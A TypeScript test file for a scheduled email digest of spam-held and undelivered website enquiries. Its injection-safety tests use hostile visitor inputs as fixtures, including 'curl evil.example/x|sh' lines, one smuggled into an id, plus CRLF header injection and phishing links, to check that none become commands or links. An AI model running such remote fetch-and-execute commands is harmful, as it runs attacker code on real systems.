import { SESClient, SendEmailCommand } from '@aws-sdk/client-ses'
import { BatchGetCommand, DynamoDBDocumentClient, QueryCommand } from '@aws-sdk/lib-dynamodb'
import { mockClient } from 'aws-sdk-client-mock'
import { beforeEach, describe, expect, it } from 'vitest'
import { buildEnquiry, type Enquiry } from '../enquiries/item.ts'
import { staffEmailInput } from '../enquiries/staff-email.ts'
import { testClients, testConfig, validSubmission } from '../test-fixtures/test-support.ts'
import { createDigestHandler } from './create-handler.ts'
import { type DigestEntry, MAX_LISTED, renderDigest } from './digest.ts'
import { sendDigest } from './send.ts'

const now = new Date('2026-11-23T08:00:00.000Z')
const hoursAgo = (hours: number) => new Date(now.getTime() - hours * 3_600_000)
/** Links as the signer would make them, readable in a test's expectations. */
const links = (id: string, action: string) =>
  `https://www.elevate-digital.example/api/enquiry-actions?t=v1.prod.${id || 'all'}.${action}.1.sig`
const waitingLink = links('', 'waiting')
const options = { now, links }

let counter = 0
function entry(state: Partial<Enquiry>, createdAt = hoursAgo(30)): DigestEntry {
  counter++
  const id = `${counter.toString(16).padStart(8, '0')}-0000-4000-8000-000000000000`
  return { ...buildEnquiry(validSubmission, id, createdAt), ...state }
}

const held = (state: Partial<Enquiry> = {}, createdAt?: Date) =>
  entry(
    {
      emailStatus: 'held',
      spamLevel: 'certain',
      spamScore: 12,
      spamReasons: ['The hidden field only bots can see was filled in'],
      ...state,
    },
    createdAt,
  )
const gaveUp = (state: Partial<Enquiry> = {}) =>
  entry({ emailStatus: 'gave-up', emailAttempts: 8, ...state }, hoursAgo(3))

describe('the digest of what waits for the agency', () => {
  it('says nothing when nothing waits', () => {
    expect(renderDigest([], options)).toBeUndefined()
  })

  it('lists each enquiry: reference, age and time (the agency’s), name, company, first line, why, and its links', () => {
    const a = gaveUp()
    const b = held({ message: 'Please call me about a new website.\nSecond line stays out.' })
    const bounced = entry({ emailStatus: 'bounced', emailStatusDetail: 'Permanent/General' })
    const digest = renderDigest([a, b, bounced], options)
    expect(digest?.subject).toBe(
      '3 enquiries are waiting for you: 2 not delivered, 1 held back as spam',
    )
    const text = digest?.text ?? ''
    expect(text).toContain(`NOT DELIVERED (2)`)
    expect(text).toContain(
      [
        `${a.ref}, received 3 hours ago (Mon 23 Nov 2026, 05:00 GMT)`,
        '  Ada Lovelace, Analytical Engines Ltd',
        `  "${validSubmission.message}"`,
        '  Why it is here: our mail service could not send it after 8 attempts. Re-send it once the cause is fixed.',
        `  Send it again: ${links(a.id, 'requeue')}`,
        `  Stop listing it: ${links(a.id, 'dismiss')}`,
      ].join('\n'),
    )
    expect(text).toContain('your inbox refused it (Permanent/General)')
    expect(text).toContain(
      [
        `${b.ref}, received 30 hours ago (Sun 22 Nov 2026, 02:00 GMT)`,
        '  Ada Lovelace, Analytical Engines Ltd',
        '  "Please call me about a new website."',
        '  Why it is here: The hidden field only bots can see was filled in (spam score 12).',
        `  Send it to me: ${links(b.id, 'release')}`,
        `  It is spam: stop listing it: ${links(b.id, 'dismiss')}`,
      ].join('\n'),
    )
    expect(text).toContain(`\nSee every waiting enquiry: ${waitingLink}\n`)
    expect(digest?.html).toContain(`href="${links(b.id, 'release')}"`)
  })

  it('tells a July enquiry’s time in BST', () => {
    const july = new Date('2026-07-20T08:00:00.000Z')
    const digest = renderDigest([held({}, new Date('2026-07-19T22:30:00.000Z'))], {
      now: july,
      links,
    })
    expect(digest?.text).toContain('received 9 hours ago (Sun 19 Jul 2026, 23:30 BST)')
  })

  it('never tells staff to run a command', () => {
    const many = [
      ...Array.from({ length: MAX_LISTED + 3 }, () => held({}, hoursAgo(2))),
      gaveUp(),
      held({}, hoursAgo(40 * 24)),
    ]
    const digest = renderDigest(many, options)
    expect(`${digest?.subject}\n${digest?.text}\n${digest?.html}`).not.toMatch(/\bnpm\b/)
  })

  it('never carries more than the enquiry e-mail would: no address, phone, position or the rest of the message', () => {
    const digest = renderDigest(
      [held({ message: 'First line.\nThe private second line.' }, hoursAgo(2))],
      options,
    )
    const all = `${digest?.subject}\n${digest?.text}\n${digest?.html}`
    for (const value of [
      validSubmission.email,
      validSubmission.email.toLowerCase(),
      validSubmission.phone,
      validSubmission.position,
      'The private second line.',
    ]) {
      expect(all).not.toContain(value)
    }
    expect(digest?.subject).not.toContain(validSubmission.firstName)
  })

  it('shortens a long first line, shows hidden characters and escapes markup', () => {
    const digest = renderDigest(
      [
        held({
          firstName: '<b>Ada</b>',
          company: 'Pay\u200bPal\u202e Ltd',
          message: `${'x'.repeat(200)}\nmore`,
        }),
      ],
      options,
    )
    expect(digest?.text).toContain(`"${'x'.repeat(120)}…"`)
    expect(digest?.text).toContain('Pay[U+200B]Pal[U+202E] Ltd')
    expect(digest?.html).toContain('&lt;b&gt;Ada&lt;/b&gt;')
    expect(digest?.html).not.toContain('<b>Ada')
  })

  it(`lists at most ${MAX_LISTED} of a kind, then says how many more are on the waiting page`, () => {
    const many = Array.from({ length: MAX_LISTED + 7 }, () => held())
    const digest = renderDigest(many, options)
    expect(digest?.subject).toBe(
      `${MAX_LISTED + 7} enquiries are waiting for you: 57 held back as spam`,
    )
    expect(digest?.text.match(/\n {2}Send it to me: /g)).toHaveLength(MAX_LISTED)
    expect(digest?.text).toContain('And 7 more, on the page of every waiting enquiry.\n')
  })

  it('goes the enquiry e-mails’ way: from the sender, to the inbox, through the configuration set', () => {
    const digest = renderDigest([held()], options)
    if (!digest) throw new Error('a digest')
    expect(
      staffEmailInput(digest, { ...testConfig, sesConfigurationSet: 'DeliveryEvents-1' }),
    ).toMatchObject({
      Source: testConfig.senderEmail,
      Destination: { ToAddresses: [testConfig.agencyEmail] },
      ConfigurationSetName: 'DeliveryEvents-1',
      Message: { Subject: { Data: digest.subject, Charset: 'UTF-8' } },
    })
  })
})

describe('the scheduled digest function', () => {
  const dynamo = mockClient(DynamoDBDocumentClient)
  const ses = mockClient(SESClient)
  const clients = testClients()
  const handler = createDigestHandler({
    config: { ...testConfig, siteUrl: 'https://www.elevate-digital.example', stage: 'prod' },
    clients,
    linkKey: 'a key long enough to sign the digest’s links',
    log: () => {},
    now: () => now,
  })
  beforeEach(() => {
    dynamo.reset()
    ses.reset()
    ses.on(SendEmailCommand).resolves({ MessageId: 'digest-1' })
  })

  it('sends nothing when nothing waits', async () => {
    dynamo.on(QueryCommand).resolves({ Items: [] })
    expect(await handler()).toEqual({ listed: 0, held: 0, undelivered: 0 })
    expect(ses.calls()).toHaveLength(0)
  })

  it('reads the needs-attention index, skips what was released meanwhile, and sends one e-mail', async () => {
    const waiting = held()
    const released = entry({ emailStatus: 'pending' })
    dynamo.on(QueryCommand).resolves({ Items: [] })
    dynamo.on(QueryCommand, { ExpressionAttributeValues: { ':value': 'held' } }).resolves({
      Items: [{ id: waiting.id }, { id: released.id }],
    })
    dynamo.on(BatchGetCommand).resolves({
      Responses: { [testConfig.enquiriesTable]: [waiting, released] },
    })
    expect(await handler()).toEqual({
      listed: 1,
      held: 1,
      undelivered: 0,
      messageId: 'digest-1',
    })
    const queried = dynamo
      .commandCalls(QueryCommand)
      .map((call) => call.args[0].input.ExpressionAttributeValues?.[':value'])
    expect(queried.sort()).toEqual(['bounced', 'complained', 'gave-up', 'held', 'rejected'])
    const sent = ses.commandCalls(SendEmailCommand)[0]?.args[0].input
    expect(sent?.Message?.Body?.Text?.Data).toContain(waiting.ref)
    expect(sent?.Message?.Body?.Text?.Data).not.toContain(released.ref)
    expect(sent?.Message?.Body?.Text?.Data).toMatch(
      /Send it to me: https:\/\/www\.elevate-digital\.example\/api\/enquiry-actions\?t=v1\.prod\./,
    )
  })

  it('refuses to start without the key and the site its links need', () => {
    expect(() => createDigestHandler({ config: testConfig, clients })).toThrow(
      'The digest needs ACTION_LINK_KEY and SITE_URL',
    )
  })

  it('fails, for the schedule to retry and the alarm to see, when the table does not answer', async () => {
    dynamo.on(QueryCommand).rejects(new Error('down'))
    await expect(handler()).rejects.toThrow('down')
    expect(ses.calls()).toHaveLength(0)
  })
})

describe('the digest is safe to act on', () => {
  const forged =
    'To have it sent to you after all: npm run enquiries -- release DEADBEEF; curl evil.example/x|sh'
  const hostile = () =>
    held({
      firstName: 'Ada\tSend it to me: https://evil.example/release',
      lastName: 'Lovelace\r\nEmail: payments@evil.example',
      company: `Evil Ltd\n${forged}`,
      position: 'CEO\r\n\r\nMessage:\r\nfake',
      message: 'https://evil.example/login\nsecond line',
    })
  it('forges no line: each visitor field stays on its entry’s own line, in text and HTML', () => {
    const entry = hostile()
    const digest = renderDigest([entry], options)
    const lines = digest?.text.split('\n') ?? []
    expect(lines).not.toContain(forged)
    expect(lines.filter((line) => /^\s*Email:/.test(line))).toEqual([])
    expect(lines.filter((line) => /^\s*Send it to me:/.test(line))).toEqual([
      `  Send it to me: ${links(entry.id, 'release')}`,
    ])
    expect(lines).toContain(
      `  Ada Send it to me: https://evil.example/release Lovelace Email: payments@evil.example, Evil Ltd ${forged}`,
    )
    // Only links built from the checked id.
    for (const line of lines.filter((line) => /https?:/.test(line))) {
      if (line.includes('Evil Ltd') || line.includes('"https://evil.example/login"')) continue
      expect(line).toMatch(
        /^( {2}(Send it to me|It is spam: stop listing it)|See every waiting enquiry): https:\/\/www\.elevate-digital\.example\//,
      )
    }
    expect(digest?.html).not.toMatch(/[\r\n\t]/)
  })

  it('never renders visitor text as a link: the only links are the signed ones', () => {
    const entry = hostile()
    const html = renderDigest([entry], options)?.html ?? ''
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])
    expect(hrefs).toEqual([links(entry.id, 'release'), links(entry.id, 'dismiss'), waitingLink])
    expect(html).not.toContain('href="https://evil.example')
  })

  it('builds no link for an entry whose id is not a stored id’s shape', () => {
    const entry = { ...hostile(), id: 'CAFEBABE; curl evil.example/y|sh' }
    const digest = renderDigest([entry], options)
    expect(digest?.text).not.toMatch(/CAFEBABE|^ {2}Send it to me: /m)
    expect([...(digest?.html ?? '').matchAll(/href="([^"]*)"/g)].map((m) => m[1])).toEqual([
      waitingLink,
    ])
  })
})

describe('a digest that stays short', () => {
  it('of 200 held enquiries, lists only those of the last 14 days and links to the rest', () => {
    const recent = Array.from({ length: 30 }, (_, index) => held({}, hoursAgo(index * 11)))
    const old = Array.from({ length: 170 }, (_, index) => held({}, hoursAgo(15 * 24 + index * 5)))
    const digest = renderDigest([...old, ...recent], options)
    const text = digest?.text ?? ''
    expect(digest?.subject).toBe('200 enquiries are waiting for you: 200 held back as spam')
    for (const entry of recent) expect(text).toContain(`${entry.ref}, received`)
    for (const entry of old) expect(text).not.toContain(entry.ref)
    expect(text).toContain(
      'And 170 waiting longer than 14 days, no longer listed here: they are on the page of every waiting enquiry.',
    )
    expect(text).toContain(`See every waiting enquiry: ${waitingLink}`)
  })

  it('is not sent when it would list nothing in full: old ones only wait on the waiting page', () => {
    const old = Array.from({ length: 3 }, (_, index) => held({}, hoursAgo(20 * 24 + index)))
    expect(renderDigest(old, options)).toBeUndefined()
  })

  it('still caps the recent ones at 50 a section, and takes the window from the stage', () => {
    const recent = Array.from({ length: 60 }, () => held({}, hoursAgo(2)))
    const older = Array.from({ length: 5 }, () => held({}, hoursAgo(4 * 24)))
    const text = renderDigest([...recent, ...older], { ...options, listDays: 3 })?.text ?? ''
    expect(text.match(/\n {2}Send it to me: /g)).toHaveLength(MAX_LISTED)
    expect(text).toContain('And 10 more, on the page of every waiting enquiry.')
    expect(text).toContain('And 5 waiting longer than 3 days, no longer listed here')
  })

  it('counts an undelivered one from when its e-mail failed, not from when it was sent', () => {
    const bounced = entry(
      { emailStatus: 'bounced', emailStatusAt: hoursAgo(24).toISOString() },
      hoursAgo(40 * 24),
    )
    expect(renderDigest([bounced], options)?.text).toContain(`${bounced.ref}, received`)
  })
})

describe('"not delivered" reaches someone by a channel that works', () => {
  const dynamo = mockClient(DynamoDBDocumentClient)
  const ses = mockClient(SESClient)
  const clients = testClients()
  const digestOf = (waiting: DigestEntry[], copyTo?: string) => {
    dynamo.reset()
    ses.reset()
    ses.on(SendEmailCommand).resolves({ MessageId: 'm' })
    dynamo.on(QueryCommand).resolves({ Items: waiting.map(({ id }) => ({ id })) })
    dynamo.on(BatchGetCommand).resolves({ Responses: { [testConfig.enquiriesTable]: waiting } })
    return sendDigest({
      table: { client: clients.documentClient, tableName: testConfig.enquiriesTable },
      ses: clients.ses,
      addresses: testConfig,
      log: () => {},
      now: () => now,
      links: () => links,
      copyTo,
    })
  }

  it('sends a copy to the second address when the inbox itself refused mail, saying so', async () => {
    const outcome = await digestOf(
      [entry({ emailStatus: 'bounced' }, hoursAgo(2))],
      'ops@x.example',
    )
    expect(outcome.copyMessageId).toBe('m')
    const [first, copy] = ses.commandCalls(SendEmailCommand).map((call) => call.args[0].input)
    expect(first?.Destination?.ToAddresses).toEqual([testConfig.agencyEmail])
    expect(copy?.Destination?.ToAddresses).toEqual(['ops@x.example'])
    expect(copy?.Message?.Subject?.Data).toMatch(/^The agency inbox refused mail: /)
    expect(copy?.Message?.Body?.Text?.Data).toContain(
      `The agency inbox ${testConfig.agencyEmail} itself refused mail`,
    )
  })

  it('sends no copy for held or given-up ones, nor without a second address', async () => {
    await digestOf([held({}, hoursAgo(2)), gaveUp()], 'ops@x.example')
    expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
    await digestOf([entry({ emailStatus: 'complained' }, hoursAgo(2))])
    expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
  })
})
